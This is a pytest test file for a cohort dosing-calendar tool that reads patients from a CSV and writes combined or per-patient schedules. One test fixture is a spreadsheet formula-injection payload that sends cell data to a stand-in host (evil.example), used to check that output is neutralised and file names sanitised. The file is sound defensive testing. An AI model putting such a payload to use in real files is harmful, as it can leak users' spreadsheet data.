"""Cohorts: many patients from one CSV, scheduled lazily, written as a stream or as files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import dosing
from dosing._cli import Progress, main
from dosing.cohort import (
    COHORT_COLUMNS,
    Rejected,
    Scheduled,
    cohort_header_lines,
    existing_files,
    parse_choose,
    read_patients,
    safe_file_name,
    schedule_patients,
    write_cohort_csv,
    write_cohort_files,
)
from dosing.errors import DosingError
from dosing.export._common import header, rows
from dosing.export.table import to_csv, write_csv_rows

TODAY = dt.date.today()
START = (TODAY + dt.timedelta(days=3)).isoformat()
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: HOSTILE as a CSV cell: a quote before the formula, and before the quote after the comma.
SAFE_HOSTILE = '\'=HYPERLINK("http://evil.example/?x="&A1,\'"click")'

MIXED = f"""\
id,height,weight,start,choose
P001,175cm,80kg,{START},
P002,175kg,80kg,{START},
P003,5 ft 9 in,176lb,{START},dexamethasone=20
P004,175cm,80kg,03/04/2026,
P005,175cm,80kg,{START},carfilzomib=36
P006,175cm,,{START},
"{HOSTILE.replace('"', '""')}",180cm,90kg,{START},
P008,tall,80kg,{START},
"""
#: Line number of each bad row in MIXED, and a word its message must contain.
BAD_LINES = {
    3: "height must be a length",
    5: "ambiguous",
    6: "choose",
    7: "weight must be given",
    9: "height must be a length",
}
GOOD_IDS = ["P001", "P003", HOSTILE]


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _data_rows(path: Path) -> list[list[str]]:
    """The combined CSV's rows after the header block and column row."""
    lines = [
        ln
        for ln in path.read_bytes().decode("utf-8").splitlines(keepends=True)
        if not ln.startswith("#")
    ]
    table = list(csv.reader(lines))
    assert tuple(table[0]) == COHORT_COLUMNS
    return table[1:]


def _expected_schedule(
    height: str, weight: str, choices: dict[str, str] | None = None, identifier: str = "x"
) -> dosing.Schedule:
    patient = dosing.Patient(height=height, weight=weight, identifier=identifier)
    return dosing.build_schedule(
        dosing.get_protocol("D-KRd"), patient, START, cycles=2, choices=choices
    )


def _run(*argv: str) -> int:
    return main(["cohort", *argv])


# -- the command: combined CSV ------------------------------------------------------------


def test_good_rows_are_written_and_bad_rows_reported_with_their_line(tmp_path, capsys):
    """Bad rows are reported as `line N: ...` with the right line, the rest written, exit 2."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    status = _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    err = capsys.readouterr().err
    assert status == 2
    reported = [ln for ln in err.splitlines() if ln.startswith("line ")]
    assert [int(ln.split(":")[0].split()[1]) for ln in reported] == sorted(BAD_LINES)
    for line in reported:
        number = int(line.split(":")[0].split()[1])
        assert BAD_LINES[number] in line
    assert "3 patients" in err.splitlines()[-1]
    assert "5 rows rejected" in err.splitlines()[-1]
    written = list(dict.fromkeys(r[0] for r in _data_rows(out)))
    assert written == ["P001", "P003", SAFE_HOSTILE]


def test_combined_row_count_is_the_sum_of_each_patients_administrations(tmp_path):
    """The combined CSV has exactly one row per administration of every good patient."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    expected = (
        len(_expected_schedule("175cm", "80kg").administrations)
        + len(_expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"}).administrations)
        + len(_expected_schedule("180cm", "90kg").administrations)
    )
    assert len(_data_rows(out)) == expected


def test_combined_rows_equal_the_single_patient_csv_rows(tmp_path):
    """Each patient's rows are the single-patient CSV rows after its id and protocol, cell for cell."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    schedule = _expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"})
    single = io.StringIO()
    write_csv_rows(single, rows(schedule))
    expected = [["P003", "D-KRd", *cells] for cells in csv.reader(io.StringIO(single.getvalue()))]
    assert [r for r in _data_rows(out) if r[0] == "P003"] == expected


def test_hostile_id_is_neutralised_in_the_combined_csv(tmp_path):
    """An id that a spreadsheet would run as a formula is written with a leading quote."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    ids = {r[0] for r in _data_rows(out)}
    assert SAFE_HOSTILE in ids
    assert not any(i.startswith(("=", "+", "-", "@")) for i in ids)


def test_header_block_comes_once_with_the_notice_and_settings(tmp_path):
    """The `#` block names protocol, cycles, BSA formula and choices and carries the notice once."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(
        str(patients),
        "--protocol",
        "D-KRd",
        "--cycles",
        "2",
        "--bsa-formula",
        "dubois",
        "--generated-at",
        "2026-01-01T00:00:00Z",
        "-o",
        str(out),
    )
    text = out.read_bytes().decode("utf-8")
    comments = [ln for ln in text.splitlines() if ln.startswith("#")]
    assert text.startswith("# D-KRd cohort dosing calendar\r\n")
    assert text.count(dosing.VERIFICATION_NOTICE) == 1
    assert "# cycles: 2 (requested) of 28 days from each patient's start date" in comments
    assert "# BSA formula: DuBois" in comments[3]
    assert any(
        ln.startswith("# choices: dexamethasone 40 mg per week (default)") for ln in comments
    )
    assert "# generated: 2026-01-01T00:00:00Z" in comments
    assert all(ln.startswith("#") for ln in text.split("patient,protocol,date,")[0].splitlines())


def test_each_patient_gets_a_line_with_measurements_bsa_and_choices(tmp_path):
    """Before its rows, each patient has a `# patient` line: height, weight, BSA, choices."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    lines = out.read_bytes().decode("utf-8").split("\r\n")
    starts = [i for i, ln in enumerate(lines) if ln.startswith("# patient ")]
    assert [lines[i].split(":")[0] for i in starts[:2]] == ["# patient P001", "# patient P003"]
    for i in starts:
        assert not lines[i - 1].startswith("# patient ")
        assert not lines[i + 1].startswith("#")
    assert lines[starts[1]] == (
        "# patient P003: protocol D-KRd (cohort), cycles 2 (cohort), "
        "height 5 ft 9 in = 175.26 cm, weight 176 lb = 79.8323 kg, "
        "BSA 1.971 m² (Mosteller), choices: dexamethasone 20 mg per week (chosen)"
    )
    assert "dexamethasone 40 mg per week (default)" in lines[starts[0]]
    assert "(chosen)" not in lines[starts[0]]


def test_patient_lines_never_hand_a_spreadsheet_a_formula(tmp_path):
    """Read as a spreadsheet would, no cell of the file - comment lines too - starts a formula."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    text = out.read_bytes().decode("utf-8")
    # the piece after the comma would open a quoted field in a spreadsheet: it is neutralised
    assert '# patient =HYPERLINK("http://evil.example/?x="&A1,\'"click"): protocol D-KRd' in text
    for cells in csv.reader(io.StringIO(text)):
        for cell in cells:
            if cell.lstrip()[:1] in {"=", "+", "-", "@"}:
                float(cell)


def test_header_block_is_the_export_header_without_the_patient_fields():
    """The block repeats `header()`'s protocol-wide fields and drops measurements, BSA and dates."""
    protocol = dosing.get_protocol("KRd")
    moment = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    lines = cohort_header_lines(protocol, generated_at=moment)
    patient = dosing.Patient(height="175 cm", weight="80 kg", identifier="P1")
    single = dosing.build_schedule(protocol, patient, START)
    shared = {"protocol", "generated", "sources"}
    for label, text in header(single, generated_at=moment).fields:
        if label in shared:
            assert f"{label}: {text}" in lines
        elif label not in {"choices", "cycles"}:
            assert not any(line.startswith(f"{label}:") for line in lines), label
    assert lines[1:5] == [
        f"protocol: {dict(header(single).fields)['protocol']}",
        "cycles: 8 (protocol default) of 28 days from each patient's start date",
        "BSA formula: Mosteller (default)",
        "choices: carfilzomib 56 mg/m² (default); dexamethasone 40 mg per week (default); "
        "a patient's choose cell or drug column replaces a default for that patient",
    ]
    assert lines[-1] == f"NOTICE: {dosing.VERIFICATION_NOTICE}"


def test_cohort_module_does_not_import_the_command_line():
    """dosing.cohort is a library module: importing and using it leaves dosing._cli unloaded."""
    code = (
        "import sys, io, dosing.cohort as c, dosing\n"
        "k = dosing.get_protocol('KRd')\n"
        f"r = c.schedule_patients(k, ['id,height,weight,start', 'A,175cm,80kg,{START}'])\n"
        "c.write_cohort_csv(io.StringIO(), r, protocol=k)\n"
        "assert 'dosing._cli' not in sys.modules and 'argparse' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_all_good_rows_exit_zero(tmp_path, capsys):
    """A file with only good rows exits 0 and says how many were written."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = str(tmp_path / "o.csv")
    status = _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", out)
    assert status == 0
    assert "wrote 1 patient (31 administrations)" in capsys.readouterr().err


def test_existing_combined_file_needs_force(tmp_path, capsys):
    """An existing output is left alone without --force (exit 2) and replaced with it."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = _write(tmp_path / "o.csv", "keep me")
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out)) == 2
    assert "--force" in capsys.readouterr().err
    assert out.read_text() == "keep me"
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out), "--force") == 0
    assert out.read_text(encoding="utf-8").startswith("# KRd cohort dosing calendar")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o.csv", "p.csv"]


def test_missing_input_file_exits_2_with_one_line_and_no_output(tmp_path, capsys):
    """A missing patients file gives one error line, status 2, and creates no output."""
    out = tmp_path / "o.csv"
    status = _run(str(tmp_path / "nope.csv"), "--protocol", "KRd", "-o", str(out))
    err = capsys.readouterr().err
    assert status == 2
    assert err.count("\n") == 1
    assert "nope.csv" in err
    assert "no such file" in err
    assert not out.exists()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "empty file"),
        ("\n\n", "empty file"),
        ("id,height,weight,start\n\n", "no rows"),
        ("id,height,weight\nA,175cm,80kg\n", "'start'"),
        ("id,height,weight,start,ward,bed\n", "no rows"),
        ("id,hieght,weight,start\n", "'hieght' (did you mean 'height'?)"),
        ("id,height,,weight,start\n", "an empty name in column 3"),
        ("id,height,weight,start,ID\n", "repeated"),
    ],
)
def test_unusable_file_exits_2_and_creates_no_output(tmp_path, capsys, text, words):
    """An empty file, a missing column or an unknown column is named; nothing is written."""
    patients = _write(tmp_path / "p.csv", text)
    out = tmp_path / "o.csv"
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out)) == 2
    assert words in capsys.readouterr().err
    assert not out.exists()


def test_bom_and_header_case_are_tolerated(tmp_path):
    """A UTF-8 byte order mark and upper-case header names are read normally."""
    patients = tmp_path / "p.csv"
    patients.write_bytes(f"\ufeffID,Height,WEIGHT,Start\r\nA,175cm,80kg,{START}\r\n".encode())
    out = str(tmp_path / "o.csv")
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", out) == 0


def test_undecodable_bytes_reject_only_their_row(tmp_path, capsys):
    """A row with bytes that are not UTF-8 is rejected by its line; the other rows are written."""
    patients = tmp_path / "p.csv"
    good = f"id,height,weight,start\nA,175cm,80kg,{START}\n".encode()
    bad = b"B,175cm,80kg,\xff\xfe\n"
    patients.write_bytes(good + bad + f"C,175cm,80kg,{START}\n".encode())
    out = tmp_path / "o.csv"
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(out)) == 2
    assert "line 3: row must be UTF-8 text" in capsys.readouterr().err
    assert [r[0] for r in _data_rows(out)][::31] == ["A", "C"]


def test_text_that_fails_to_decode_ends_the_reading_with_a_rejection():
    """An iterable that raises UnicodeDecodeError ends the results with one rejected item."""

    def lines() -> Iterator[str]:
        yield "id,height,weight,start\n"
        yield f"A,175cm,80kg,{START}\n"
        raise UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte")

    results = list(schedule_patients(dosing.get_protocol("KRd"), lines(), cycles=1))
    assert [type(r).__name__ for r in results] == ["Scheduled", "Rejected"]
    assert "not read" in str(results[1])


def test_format_is_refused_for_a_combined_csv(tmp_path, capsys):
    """--format ics with a .csv output is an error naming --format; nothing is written."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = str(tmp_path / "o.csv")
    assert _run(str(patients), "--protocol", "KRd", "-o", out, "--format", "ics") == 2
    assert "--format" in capsys.readouterr().err


def test_a_single_calendar_file_name_is_refused(tmp_path, capsys):
    """-o all.ics is neither a CSV nor a folder: the error says to give a folder."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    assert _run(str(patients), "--protocol", "KRd", "-o", str(tmp_path / "all.ics")) == 2
    assert "folder" in capsys.readouterr().err
    assert not (tmp_path / "all.ics").exists()


# -- the command: one file per patient ----------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json", "md", "ics"])
def test_folder_output_writes_one_file_per_good_patient(tmp_path, fmt):
    """-o DIR/ writes <safe id>.<ext> for each good row and nothing for the bad ones."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    folder = tmp_path / "calendars"
    status = _run(
        str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", f"{folder}/", "--format", fmt
    )
    assert status == 2
    names = sorted(p.name for p in folder.iterdir())
    assert names == sorted(f"{safe_file_name(i)}.{fmt}" for i in GOOD_IDS)
    if fmt == "json":
        data = json.loads((folder / "P003.json").read_text(encoding="utf-8"))
        assert len(data["administrations"]) == len(
            _expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"}).administrations
        )


def test_folder_output_defaults_to_ics(tmp_path):
    """Without --format, per-patient files are iCalendar files."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    folder = tmp_path / "out"
    folder.mkdir()
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(folder)) == 0
    assert (folder / "A.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")


def test_existing_patient_files_are_reported_once_before_any_work(tmp_path, capsys):
    """Existing per-patient files give one line naming how many and --force; nothing is written."""
    rows = "".join(f"{i},175cm,80kg,{START}\n" for i in "ABCDE")
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\n{rows}")
    folder = tmp_path / "out"
    folder.mkdir()
    for name in ("A", "C", "D", "E"):
        _write(folder / f"{name}.csv", "keep me")
    assert _run(str(patients), "--protocol", "KRd", "-o", str(folder), "--format", "csv") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "holds 4 files of it already (A.csv, C.csv, D.csv, ...)" in err
    assert "pass --force" in err
    assert sorted(p.name for p in folder.iterdir()) == ["A.csv", "C.csv", "D.csv", "E.csv"]
    assert (folder / "A.csv").read_text() == "keep me"
    args = (str(patients), "--protocol", "KRd", "-o", str(folder), "--format", "csv", "--force")
    assert _run(*args) == 0
    assert (folder / "A.csv").read_text(encoding="utf-8").startswith("# KRd dosing calendar")
    assert len(list(folder.iterdir())) == 5


def test_a_file_that_appears_after_the_check_rejects_only_its_row(tmp_path):
    """A file created between the check and the writing is still refused, for its row only."""
    protocol = dosing.get_protocol("KRd")
    lines = ["id,height,weight,start", f"A,175cm,80kg,{START}", f"B,175cm,80kg,{START}"]
    assert existing_files(tmp_path, lines, fmt="csv") == []
    _write(tmp_path / "A.csv", "another run's")
    seen: list[Rejected] = []
    results = schedule_patients(protocol, lines, cycles=1)
    summary = write_cohort_files(tmp_path, results, fmt="csv", on_rejected=seen.append)
    assert (summary.patients, summary.rejected) == (1, 1)
    assert [r.line for r in seen] == [2]
    assert "does not exist yet" in seen[0].message
    assert (tmp_path / "A.csv").read_text() == "another run's"


def test_clashing_file_names_are_made_unique(tmp_path):
    """Ids that sanitise to the same name (or differ in case) get -2, -3 suffixes."""
    text = "id,height,weight,start\n" + "".join(
        f"{i},175cm,80kg,{START}\n" for i in ("a b", "a/b", "A_B", "../a b")
    )
    patients = _write(tmp_path / "p.csv", text)
    folder = tmp_path / "out"
    assert (
        _run(
            str(patients),
            "--protocol",
            "KRd",
            "--cycles",
            "1",
            "-o",
            f"{folder}/",
            "--format",
            "csv",
        )
        == 0
    )
    assert sorted(p.name for p in folder.iterdir()) == [
        "A_B-3.csv",
        "a_b-2.csv",
        "a_b-4.csv",
        "a_b.csv",
    ]


# -- the command: progress ----------------------------------------------------------------


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_bar_is_drawn_only_on_a_terminal(tmp_path, monkeypatch):
    """On a terminal stderr shows `[###...] n/N`; --no-progress and pipes show none."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    terminal = _Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(tmp_path / "a.csv"))
    assert "\r[" in terminal.getvalue()
    assert "] 8/8\n" in terminal.getvalue()
    quiet = _Terminal()
    monkeypatch.setattr("sys.stderr", quiet)
    _run(
        str(patients),
        "--protocol",
        "KRd",
        "--cycles",
        "1",
        "-o",
        str(tmp_path / "b.csv"),
        "--no-progress",
    )
    assert "\r" not in quiet.getvalue()
    piped = io.StringIO()
    monkeypatch.setattr("sys.stderr", piped)
    _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(tmp_path / "c.csv"))
    assert "\r" not in piped.getvalue()


def test_progress_ends_at_the_rows_read_when_blank_lines_inflate_the_estimate(
    tmp_path, monkeypatch
):
    """The total is estimated from line ends; the final drawing shows the rows actually read."""
    text = f"id,height,weight,start\n\nA,175cm,80kg,{START}\n\n\nB,175cm,80kg,{START}\n"
    patients = _write(tmp_path / "p.csv", text)
    terminal = _Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(tmp_path / "a.csv"))
    assert terminal.getvalue().split("\n")[0].endswith("] 2/2")


def test_progress_redraws_at_most_ten_times_a_second():
    """Updates closer than 0.1 s to the last drawing are skipped."""
    times = iter([0.0, 0.05, 0.09, 0.1, 0.15, 0.3])
    out = io.StringIO()
    bar = Progress(out, total=6, width=6, clock=lambda: next(times))
    for done in range(1, 7):
        bar.update(done)
    assert out.getvalue() == "\r[#     ] 1/6\r[####  ] 4/6\r[######] 6/6"


# -- the library --------------------------------------------------------------------------


def test_results_are_lazy_one_row_per_item():
    """Taking one result from a million-row input reads only the header and one row."""
    consumed = itertools.count()

    def lines() -> Iterator[str]:
        yield "id,height,weight,start\n"
        for i in range(1_000_000):
            next(consumed)
            yield f"P{i},175cm,80kg,{START}\n"

    results = schedule_patients(dosing.get_protocol("D-KRd"), lines(), cycles=12)
    first = next(results)
    assert isinstance(first, Scheduled)
    assert first.identifier == "P0"
    assert next(consumed) <= 2


def test_line_numbers_count_physical_lines():
    """Blank lines and quoted cells spanning lines keep the reported line numbers right."""
    text = f'id,height,weight,start\n\n"A\nB",175cm,80kg,{START}\nC,9cm,80kg,{START}\n'
    results = list(schedule_patients(dosing.get_protocol("KRd"), io.StringIO(text), cycles=1))
    assert [type(r).__name__ for r in results] == ["Scheduled", "Rejected"]
    assert [r.line for r in results] == [3, 5]


def test_duplicate_ids_are_rejected():
    """The same id twice would mix two schedules in one file: the second row is rejected."""
    text = f"id,height,weight,start\nA,175cm,80kg,{START}\nA,170cm,70kg,{START}\n"
    results = list(schedule_patients(dosing.get_protocol("KRd"), text.splitlines(), cycles=1))
    assert isinstance(results[1], Rejected)
    assert "also on line 2" in str(results[1])


def test_too_many_cells_are_rejected():
    """A row with more cells than the header is rejected, not silently cut."""
    text = f"id,height,weight,start\nA,175cm,80kg,{START},x\n"
    [result] = read_patients(text.splitlines())
    assert isinstance(result, Rejected)
    assert "5" in result.message


def test_invalid_cycles_fail_before_any_row():
    """A cycle count the protocol does not allow is one error, not one per row."""
    with pytest.raises(DosingError, match="cycles"):
        schedule_patients(dosing.get_protocol("KRd"), ["id,height,weight,start"], cycles=0)


def test_choose_cell_is_parsed_and_checked():
    """`choose` holds DRUG=VALUE pairs split by `;`; malformed pairs are refused."""
    assert parse_choose("carfilzomib=36;dexamethasone=20;") == {
        "carfilzomib": "36",
        "dexamethasone": "20",
    }
    with pytest.raises(DosingError, match="choose"):
        parse_choose("carfilzomib=36;carfilzomib=56")


def test_outlier_patient_is_flagged_in_the_combined_csv():
    """A patient accepted outside the adult range gets a `#` line saying so."""
    protocol = dosing.get_protocol("KRd")
    lines = ["id,height,weight,start", f"A,95cm,80kg,{START}"]
    out = io.StringIO()
    summary = write_cohort_csv(
        out,
        schedule_patients(protocol, lines, cycles=1, accept_outlier=True),
        protocol=protocol,
        cycles=1,
    )
    assert summary.patients == 1
    assert "# patient A: height 95 cm is outside the adult range" in out.getvalue()


def test_rows_with_a_bare_number_beside_imperial_units_are_rejected_with_their_line():
    """A bare weight beside inches, or a bare height beside pounds, rejects that row only."""
    text = (
        "id,height,weight,start\n"
        f"A,69in,176,{START}\n"
        f"B,175,176lb,{START}\n"
        f"C,175,80kg,{START}\n"
        f"D,69in,176kg,{START}\n"
    )
    results = list(schedule_patients(dosing.get_protocol("KRd"), text.splitlines(), cycles=1))
    assert [(type(r).__name__, r.line) for r in results] == [
        ("Rejected", 2),
        ("Rejected", 3),
        ("Scheduled", 4),
        ("Rejected", 5),
    ]
    assert str(results[0]).startswith(
        "line 2: weight must be given with a unit when height is in imperial units (69 in), "
        "got '176' - did you mean 176 lb (79.83 kg) or 176 kg?"
    )
    assert str(results[1]).startswith("line 3: height must be given with a unit when weight")
    assert str(results[3]).startswith("line 5: BMI must be between 12 and 50 kg/m²")


def test_write_cohort_files_renders_each_patient(tmp_path):
    """The library writer calls `render` once per scheduled patient and names files safely."""
    protocol = dosing.get_protocol("KRd")
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    lines = ["id,height,weight,start", f"{quoted},175cm,80kg,{START}", f"B,175cm,9kg,{START}"]
    seen: list[Rejected] = []
    summary = write_cohort_files(
        tmp_path,
        schedule_patients(protocol, lines, cycles=1),
        render=to_csv,
        extension="csv",
        on_rejected=seen.append,
    )
    assert (summary.patients, summary.rejected) == (1, 1)
    assert [r.line for r in seen] == [3]
    [written] = tmp_path.iterdir()
    assert written.name == "HYPERLINK_http_evil.example_x_A1_click.csv"


@pytest.mark.parametrize(
    ("identifier", "name"),
    [
        ("MRN 0001", "MRN_0001"),
        ("../../x", "x"),
        ("...", "patient"),
        ("NUL.txt", "_NUL.txt"),
        ("Müller", "M_ller"),
        ("x" * 300, "x" * 80),
    ],
)
def test_safe_file_name(identifier, name):
    """Ids become portable file names: no separators, no dot files, no device names."""
    assert safe_file_name(identifier) == name


class _Trickle(io.RawIOBase):
    """A stream that gives one byte per read, so that every line end is split across reads."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        head, self._data = self._data[:1], self._data[1:]
        return head


def test_line_ends_split_across_reads_are_read_once():
    """LF, CRLF and CR alone end one line each, even when a CRLF is split between two reads."""
    from dosing.patients_file import _text_lines

    data = b"a\r\nb\rc\nd\r\r\ne\r"
    expected = ["a\n", "b\n", "c\n", "d\n", "\n", "e\n"]
    assert list(_text_lines(io.BytesIO(data))) == expected
    assert list(_text_lines(_Trickle(data))) == expected  # type: ignore[arg-type]
